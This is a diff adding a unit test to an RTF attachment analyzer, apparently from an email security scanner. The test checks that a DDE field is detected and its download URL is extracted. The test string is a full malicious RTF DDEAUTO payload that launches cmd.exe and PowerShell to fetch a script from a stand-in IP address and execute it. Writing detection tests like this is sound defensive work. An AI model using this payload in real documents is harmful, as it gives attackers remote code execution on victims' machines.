@@ -103,6 +103,16 @@ TEST(RtfAnalyzerTest, DdeFieldsAsInWordDocuments) {
   EXPECT_NE(AnalyzerHarness::find(run.findings, "OFFICE_UNC_RESOURCE"), nullptr);
 }
 
+TEST(RtfAnalyzerTest, TheDownloadOfADdeCommandJoinsTheLinks) {
+  const std::string rtf = "{\\rtf1{\\field{\\*\\fldinst DDEAUTO c:\\\\Windows\\\\System32\\\\cmd.exe "
+                          "\"/k powershell -c iwr http://198.51.100.23/s.ps1|iex\"}{\\fldrslt }}\\par}";
+  const auto run = harness().run(with_attachment("convocation.rtf", rtf));
+  ASSERT_NE(AnalyzerHarness::find(run.findings, "OFFICE_DDE_FIELD"), nullptr);
+  ASSERT_EQ(run.objects.urls().size(), 1u);
+  EXPECT_EQ(run.objects.urls()[0].host_ascii(), "198.51.100.23");
+  EXPECT_EQ(run.objects.urls()[0].object, 2u);
+}
+
 TEST(RtfAnalyzerTest, AnOrdinaryRtfIsSilent) {
   const std::string rtf =
       "{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Calibri;}}{\\*\\template C:\\\\Users\\\\agent\\\\Normal.dotm}"
